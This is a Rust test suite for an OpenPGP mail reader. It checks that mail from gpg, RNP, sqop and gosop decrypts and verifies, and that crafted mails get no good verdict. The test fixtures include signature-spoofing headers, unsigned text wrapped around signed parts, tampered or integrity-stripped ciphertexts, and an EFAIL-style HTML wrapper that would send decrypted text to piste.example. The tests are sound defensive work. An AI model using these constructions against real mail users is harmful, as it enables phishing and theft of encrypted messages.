//! What gpg, RNP, sqop and gosop write, we read; and no mail that was made to deceive gets a good word.

#[path = "mail_in/post.rs"]
mod post;
#[path = "gpg/programs.rs"]
mod programs;

use chrono::{DateTime, Duration, TimeZone, Utc};
use post::{GAETAN, TEAM, encrypted, from, mixed, protected, signed};
use programs::{Gpg, judge};
use relais_core::domain::mail::{Encryption, Reading, SignatureStatus, Warning};
use relais_core::mail::read::{Known, Mail, Ring, read};
use relais_core::pgp::{Certificate, MailKeys, Sharing, TeamKey};

fn now() -> DateTime<Utc> {
    let now = Utc::now();
    Utc.timestamp_opt(now.timestamp(), 0).unwrap()
}

/// The team's desk: its mail keys, and whoever it knows.
#[derive(Clone)]
struct Desk {
    part: Vec<u8>,
    team: Certificate,
    known: Vec<Certificate>,
}

impl Desk {
    fn new() -> Self {
        let created = now() - Duration::hours(1);
        let made = TeamKey::generate(
            "CSIRT Estuaire",
            TEAM,
            created,
            created + Duration::days(730),
        )
        .unwrap();
        let sharing = Sharing::by_role(&made.key, now()).unwrap();
        let part = made.key.analyst_part(&sharing).unwrap();
        let team = made.key.certificate();
        Self {
            part: part.to_vec(),
            known: vec![team.clone()],
            team,
        }
    }

    fn knows(mut self, key: &[u8]) -> Self {
        self.known.push(Certificate::parse(key).unwrap());
        self
    }

    fn read(&self, mail: &str) -> Mail {
        let keys = MailKeys::open([(self.part.as_slice(), &self.team)]).unwrap();
        let at = now() + Duration::seconds(2);
        let ring = Ring {
            keys: Some(&keys),
            known: &Known::by_their_names(&self.known, at),
        };
        read(mail.as_bytes(), ring, at).unwrap()
    }

    fn reading(&self, mail: &str) -> Reading {
        self.read(mail).reading
    }
}

/// Gaëtan's gpg, which knows the team's key.
fn gaetan(desk: &Desk, algorithm: &str) -> Gpg {
    let gpg = Gpg::new();
    gpg.make_key("Gaetan Morvault", GAETAN, algorithm);
    gpg.import(desk.team.armoured().unwrap().as_bytes());
    gpg
}

#[test]
fn what_gpg_encrypts_and_signs_with_old_and_new_keys_is_opened_and_proven() {
    for algorithm in ["rsa2048", "rsa4096", "ed25519"] {
        let desk = Desk::new();
        let gpg = gaetan(&desk, algorithm);
        let desk = desk.knows(&gpg.public(GAETAN));
        let message = gpg.encrypt(GAETAN, &protected("Tout est coupé."), &[]);
        let reading = desk.reading(&(from(&format!("Gaëtan <{GAETAN}>")) + &encrypted(&message)));
        assert_eq!(
            reading.encryption,
            Encryption::Full,
            "{algorithm} {:?}",
            reading.warnings
        );
        assert_eq!(
            reading.signature.status,
            SignatureStatus::Good,
            "{algorithm}"
        );
        assert_eq!(reading.signature.fingerprint, Some(gpg.fingerprint(GAETAN)));
        assert_eq!(
            (reading.subject.as_str(), reading.subject_protected),
            ("Serveur chiffré", true)
        );
        assert_eq!(reading.text, "Tout est coupé.");
        assert_eq!(reading.warnings, [], "{algorithm}");
    }
}

#[test]
fn what_gpg_signs_beside_the_text_is_proven_and_a_changed_letter_is_not() {
    let desk = Desk::new();
    let gpg = gaetan(&desk, "ed25519");
    let desk = desk.knows(&gpg.public(GAETAN));
    let part = protected("Tout est coupé.");
    // The line end before the boundary is not signed.
    let part = part.trim_end();
    let mail = from(GAETAN) + &signed(part, &gpg.sign(GAETAN, part, &[]));
    let reading = desk.reading(&mail);
    assert_eq!(
        (reading.encryption, reading.signature.status),
        (Encryption::None, SignatureStatus::Good)
    );
    assert!(reading.subject_protected);
    // A file on a disk that lost its CRs.
    assert_eq!(
        desk.reading(&mail.replace("\r\n", "\n")).signature.status,
        SignatureStatus::Good
    );
    let changed = mail.replace("coupé", "réparé");
    assert_eq!(
        desk.reading(&changed).signature.status,
        SignatureStatus::Bad
    );
    let unknown = Desk::new();
    assert_eq!(
        unknown.reading(&mail).signature.status,
        SignatureStatus::UnknownKey
    );
}

#[test]
fn hidden_recipients_passphrase_free_compression_and_inline_messages_are_opened() {
    let desk = Desk::new();
    let gpg = gaetan(&desk, "rsa2048");
    let desk = desk.knows(&gpg.public(GAETAN));
    for more in [
        &["--throw-keyids"][..],
        &["--compress-algo", "zlib"],
        &["--compress-algo", "bzip2"],
        &["--compress-algo", "none"],
    ] {
        let message = gpg.encrypt(GAETAN, &protected("caché"), more);
        let reading = desk.reading(&(from(GAETAN) + &encrypted(&message)));
        assert_eq!(
            (reading.encryption, reading.signature.status),
            (Encryption::Full, SignatureStatus::Good),
            "{more:?}"
        );
    }
    let inline = from(GAETAN)
        + "Content-Type: text/plain; charset=utf-8\r\n\r\n"
        + &gpg.encrypt(GAETAN, "Bonjour, c’est coupé.", &[]);
    let reading = desk.reading(&inline);
    assert_eq!(
        (reading.encryption, reading.signature.status),
        (Encryption::Full, SignatureStatus::Good)
    );
    assert_eq!(
        (reading.text.as_str(), reading.subject_protected),
        ("Bonjour, c’est coupé.", false)
    );
    let clear = from(GAETAN) + "\r\n" + &gpg.clear_sign(GAETAN, "- un tiret\nBonjour\n");
    let reading = desk.reading(&clear);
    assert_eq!(
        (reading.signature.status, reading.text.as_str()),
        (SignatureStatus::Good, "- un tiret\nBonjour")
    );
}

#[test]
fn what_exchange_makes_of_an_encrypted_mail_is_opened() {
    let desk = Desk::new();
    let gpg = gaetan(&desk, "ed25519");
    let desk = desk.knows(&gpg.public(GAETAN));
    let message = gpg
        .encrypt(GAETAN, &protected("par Exchange"), &[])
        .replace('\n', "\r\n");
    let mangled = from(GAETAN)
        + &mixed(&[
            "Content-Type: text/plain; charset=us-ascii\r\n\r\n",
            "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
            &format!(
                "Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n{message}"
            ),
        ]);
    let reading = desk.reading(&mangled);
    assert_eq!(
        (reading.encryption, reading.signature.status),
        (Encryption::Full, SignatureStatus::Good)
    );
    assert_eq!(
        (reading.text.as_str(), reading.subject.as_str()),
        ("par Exchange", "Serveur chiffré")
    );
}

#[test]
fn what_rnp_sqop_and_gosop_write_is_opened_and_proven() {
    let desk = Desk::new();
    let home = Gpg::new();
    let team = desk.team.armoured().unwrap();
    home.write("equipe.asc", team.as_bytes());
    let name = format!("Gaetan Morvault <{GAETAN}>");
    for sop in ["sqop", "gosop"] {
        let key = judge(sop, &["generate-key", &name], b"", &home);
        assert!(key.ok, "{sop}: {key:?}");
        home.write("gaetan.key", &key.out);
        let public = judge(sop, &["extract-cert"], &key.out, &home);
        assert!(public.ok, "{sop}: {public:?}");
        let part = protected("Depuis un autre programme.");
        let sealed = judge(
            sop,
            &["encrypt", "--sign-with=gaetan.key", "equipe.asc"],
            part.as_bytes(),
            &home,
        );
        assert!(sealed.ok, "{sop}: {sealed:?}");
        let desk = desk.clone().knows(&public.out);
        let reading = desk.reading(&(from(GAETAN) + &encrypted(&sealed.stdout())));
        assert_eq!(
            (reading.encryption, reading.signature.status),
            (Encryption::Full, SignatureStatus::Good),
            "{sop} {:?}",
            reading.warnings
        );
        assert_eq!(reading.text, "Depuis un autre programme.");
    }
    home.write("rnp/.keep", b"");
    let made = judge(
        "rnpkeys",
        &[
            "--homedir",
            "rnp",
            "--generate-key",
            "--userid",
            &name,
            "--password",
            "",
        ],
        b"",
        &home,
    );
    assert!(made.ok, "{made:?}");
    let imported = judge(
        "rnpkeys",
        &["--homedir", "rnp", "--import-key", "equipe.asc"],
        b"",
        &home,
    );
    assert!(imported.ok, "{imported:?}");
    home.write("part.txt", protected("Depuis Thunderbird.").as_bytes());
    let sealed = judge(
        "rnp",
        &[
            "--homedir",
            "rnp",
            "--password",
            "",
            "--armor",
            "--encrypt",
            "--sign",
            "-r",
            TEAM,
            "-u",
            GAETAN,
            "--output",
            "part.asc",
            "part.txt",
        ],
        b"",
        &home,
    );
    assert!(sealed.ok, "{sealed:?}");
    let public = judge(
        "rnpkeys",
        &["--homedir", "rnp", "--export-key", GAETAN],
        b"",
        &home,
    );
    let desk = desk.clone().knows(&public.out);
    let reading = desk
        .reading(&(from(GAETAN) + &encrypted(&String::from_utf8(home.read("part.asc")).unwrap())));
    assert_eq!(
        (reading.encryption, reading.signature.status),
        (Encryption::Full, SignatureStatus::Good),
        "rnp {:?}",
        reading.warnings
    );
}

/// The two whom the attacks are about: Gaëtan, and Ève, whose key is known as well.
struct Attack {
    desk: Desk,
    gpg: Gpg,
}

const EVE: &str = "eve@autre.example";

impl Attack {
    fn new() -> Self {
        let desk = Desk::new();
        let gpg = gaetan(&desk, "ed25519");
        gpg.make_key("Eve", EVE, "ed25519");
        let desk = desk.knows(&gpg.public(GAETAN)).knows(&gpg.public(EVE));
        Self { desk, gpg }
    }

    /// A part that somebody signed, with the signature beside it.
    fn signed_by(&self, signer: &str, text: &str) -> String {
        let part = format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{text}");
        signed(&part, &self.gpg.sign(signer, &part, &[]))
    }
}

#[test]
fn a_good_signature_of_somebody_else_is_never_the_senders() {
    let attack = Attack::new();
    let by_eve = attack.signed_by(EVE, "Payez ici.");
    let head = |senders: &str| {
        format!(
            "{senders}\r\nTo: {TEAM}\r\nDate: Thu, 12 Mar 2026 09:42:00 +0100\r\nSubject: x\r\n"
        )
    };
    for senders in [
        format!("From: {GAETAN}"),
        format!("From: Eve <{EVE}>, <{GAETAN}>"),
        format!("From: {EVE}\r\nFrom: {GAETAN}"),
        format!("From: {GAETAN}\r\nFrom: {EVE}"),
        format!("From: {GAETAN}\r\nSender: {EVE}"),
        format!("Sender: {EVE}"),
        "From: ".to_owned(),
        "From: Gaetan Morvault".to_owned(),
        format!("From: \"{GAETAN}\" <{EVE}>"),
        format!("From: \"Gaetan Morvault <{GAETAN}>\" <{EVE}>"),
        format!("From: =?utf-8?q?{}?= <{EVE}>", GAETAN.replace('@', "=40")),
    ] {
        let reading = attack.desk.reading(&(head(&senders) + &by_eve));
        assert_eq!(
            reading.signature.status,
            SignatureStatus::Mismatch,
            "{senders}"
        );
    }
    let own = attack
        .desk
        .reading(&(head(&format!("From: {EVE}")) + &by_eve));
    assert_eq!(own.signature.status, SignatureStatus::Good);
}

#[test]
fn what_stands_around_a_signed_part_takes_its_word_away() {
    let attack = Attack::new();
    let good = attack.signed_by(GAETAN, "Le vrai texte.");
    let before = "Content-Type: text/plain\r\n\r\nPayez ici.";
    let hiding = "Content-Type: text/html\r\n\r\nPayez ici.<plaintext style=\"display:none\">";
    let related = mixed(&["Content-Type: text/html\r\n\r\n<img src=\"cid:un\">", &good])
        .replace("multipart/mixed", "multipart/related");
    let attached = mixed(&[
        before,
        &format!("Content-Type: message/rfc822\r\n\r\n{}{good}", from(GAETAN)),
    ]);
    let third = good.replace(
        "--sig--",
        "--sig\r\nContent-Type: text/plain\r\n\r\nPayez ici.\r\n--sig--",
    );
    let clear = attack.gpg.clear_sign(GAETAN, "Le vrai texte.");
    let inline = format!("Content-Type: text/plain\r\n\r\nPayez ici.\r\n{clear}");
    let inline_after = format!("Content-Type: text/plain\r\n\r\n{clear}\r\nPayez ici.");
    let twice = format!("Content-Type: text/plain\r\n\r\n{clear}\r\n{clear}");
    for content in [
        mixed(&[before, &good]),
        mixed(&[&good, before]),
        mixed(&[hiding, &good]),
        related,
        attached,
        third,
        inline,
        inline_after,
        twice,
    ] {
        let reading = attack.desk.reading(&(from(GAETAN) + &content));
        assert_ne!(reading.signature.status, SignatureStatus::Good, "{content}");
        assert!(!reading.subject_protected);
    }
    assert_eq!(
        attack
            .desk
            .reading(&(from(GAETAN) + &good))
            .signature
            .status,
        SignatureStatus::Good
    );
}

#[test]
fn a_ciphertext_between_two_parts_is_not_opened_into_a_page_that_sends_it_away() {
    let attack = Attack::new();
    let secret = attack
        .gpg
        .encrypt("", "Content-Type: text/plain\r\n\r\nle secret", &[]);
    let open = "Content-Type: text/html\r\n\r\n<img src=\"https://piste.example/";
    let close = "Content-Type: text/html\r\n\r\n\">";
    for inner in [
        encrypted(&secret),
        format!("Content-Type: text/plain\r\n\r\n{secret}"),
        format!("Content-Type: application/octet-stream; name=a.asc\r\n\r\n{secret}"),
    ] {
        let mail = attack
            .desk
            .read(&(from(EVE) + &mixed(&[open, &inner, close])));
        assert_eq!(mail.reading.encryption, Encryption::Partial, "{inner}");
        assert!(mail.reading.warnings.contains(&Warning::InnerProtection));
        let shown = format!("{} {:?}", mail.reading.text, mail.reading.html);
        assert!(
            !shown.contains("le secret")
                && mail
                    .files
                    .iter()
                    .all(|file| !file.windows(9).any(|w| w == b"le secret"))
        );
    }
}

#[test]
fn a_changed_ciphertext_shows_nothing() {
    let attack = Attack::new();
    let armoured = attack.gpg.encrypt(
        GAETAN,
        &protected("le secret"),
        &["--compress-algo", "none"],
    );
    let binary = attack.gpg.run(&["--dearmor"], armoured.as_bytes()).out;
    let read = |bytes: &[u8]| {
        let again = attack.gpg.run(&["--enarmor"], bytes).stdout();
        let again = again
            .replace("PGP ARMORED FILE", "PGP MESSAGE")
            .lines()
            .filter(|line| !line.starts_with("Comment"))
            .collect::<Vec<_>>()
            .join("\n");
        attack.desk.reading(&(from(GAETAN) + &encrypted(&again)))
    };
    assert_eq!(read(&binary).encryption, Encryption::Full);
    // One recipient: its packet has an old header with one byte of length, and the container follows.
    assert_eq!(binary[0], 0x84);
    let container = 2 + usize::from(binary[1]);
    assert_eq!(binary[container], 0xd2);
    let mut flipped = binary.clone();
    let place = flipped.len() - 60;
    flipped[place] ^= 1;
    let mut old = binary.clone();
    // The container without a check against changes, as before 2000 (RFC 9580 §5.7).
    old[container] = 0xc9;
    for (bytes, why) in [
        (&flipped[..], Warning::Tampered),
        (&binary[..binary.len() - 30], Warning::Tampered),
        (&old[..], Warning::NoIntegrity),
    ] {
        let reading = read(bytes);
        assert_eq!(
            (reading.encryption, reading.text.as_str()),
            (Encryption::Failed, ""),
            "{why:?}"
        );
        assert_eq!(reading.signature.status, SignatureStatus::None);
        assert!(
            reading.warnings.contains(&why),
            "{why:?} {:?}",
            reading.warnings
        );
    }
}

#[test]
fn a_signature_around_a_ciphertext_says_nothing_of_what_is_in_it() {
    let attack = Attack::new();
    let message = attack.gpg.encrypt("", &protected("un texte"), &[]);
    let inner = encrypted(&message);
    let inner = inner.trim_end();
    let mail = from(EVE) + &signed(inner, &attack.gpg.sign(EVE, inner, &[]));
    let reading = attack.desk.reading(&mail);
    assert_eq!(
        (reading.encryption, reading.signature.status),
        (Encryption::Full, SignatureStatus::None)
    );
    assert_eq!(
        (reading.text.as_str(), reading.from.unwrap().mail.as_str()),
        ("un texte", EVE)
    );
    assert!(
        reading.warnings.contains(&Warning::InnerProtection)
            && reading.warnings.contains(&Warning::SenderDiffers)
    );
}

#[test]
fn weak_expired_and_revoked_keys_have_each_their_word() {
    let desk = Desk::new();
    let gpg = gaetan(&desk, "rsa2048");
    let part = "Content-Type: text/plain\r\n\r\nBonjour";
    let mail = |signature: &str| from(GAETAN) + &signed(part, signature);
    let weak = mail(&gpg.sign(GAETAN, part, &["--digest-algo", "SHA1"]));
    let good = mail(&gpg.sign(GAETAN, part, &[]));
    let known = desk.clone().knows(&gpg.public(GAETAN));
    assert_eq!(known.reading(&weak).signature.status, SignatureStatus::Weak);
    assert_eq!(known.reading(&good).signature.status, SignatureStatus::Good);

    let fingerprint = gpg.fingerprint(GAETAN);
    let revocation =
        String::from_utf8(gpg.read(&format!("openpgp-revocs.d/{fingerprint}.rev"))).unwrap();
    gpg.import(revocation.replace(":-----BEGIN", "-----BEGIN").as_bytes());
    let reading = desk.clone().knows(&gpg.public(GAETAN)).reading(&good);
    assert_eq!(reading.signature.status, SignatureStatus::ExpiredKey);
    assert!(reading.warnings.contains(&Warning::KeyRevoked));

    let gpg = Gpg::new();
    let then = (now() - Duration::days(30)).timestamp().to_string();
    let made = gpg.run(
        &[
            "--faked-system-time",
            &then,
            "--pinentry-mode",
            "loopback",
            "--passphrase",
            "",
            "--quick-gen-key",
            GAETAN,
            "ed25519",
            "sign",
            "10d",
        ],
        b"",
    );
    assert!(made.ok, "{made:?}");
    let late = (now() - Duration::days(25)).timestamp().to_string();
    let within = gpg.sign(GAETAN, part, &["--faked-system-time", &late]);
    let known = desk.knows(&gpg.public(GAETAN));
    // Signed while it lived: the end of a key takes nothing back.
    assert_eq!(
        known.reading(&mail(&within)).signature.status,
        SignatureStatus::Good
    );
}

#[test]
fn headers_that_are_not_at_the_root_of_what_was_protected_count_for_nothing() {
    let attack = Attack::new();
    let part = protected("Bonjour");
    let inner = mixed(&[part.trim_end()]);
    let inner = inner.trim_end();
    let mail = from(GAETAN).replace("Subject: ...", "Subject: dehors")
        + &signed(inner, &attack.gpg.sign(GAETAN, inner, &[]));
    let reading = attack.desk.reading(&mail);
    assert_eq!(
        (reading.subject.as_str(), reading.subject_protected),
        ("dehors", false)
    );
    let naked = attack.desk.reading(&(from(EVE) + &part));
    assert!(!naked.subject_protected);
}

#[test]
fn another_subject_or_sender_outside_is_told() {
    let attack = Attack::new();
    let message = attack.gpg.encrypt(GAETAN, &protected("Bonjour"), &[]);
    let outer = from(&format!("Eve <{EVE}>")).replace("Subject: ...", "Subject: Facture");
    let reading = attack.desk.reading(&(outer + &encrypted(&message)));
    // The protected sender signed, so the protected sender is who wrote.
    assert_eq!(reading.from.unwrap().mail, GAETAN);
    assert_eq!(reading.signature.status, SignatureStatus::Good);
    assert_eq!(
        reading.warnings,
        [Warning::SubjectDiffers, Warning::SenderDiffers]
    );
    let unsigned = attack.gpg.encrypt("", &protected("Bonjour"), &[]);
    let reading = attack.desk.reading(&(from(EVE) + &encrypted(&unsigned)));
    assert_eq!(
        (
            reading.from.unwrap().mail.as_str(),
            reading.signature.status
        ),
        (EVE, SignatureStatus::None)
    );
    assert!(reading.warnings.contains(&Warning::SenderDiffers));
}
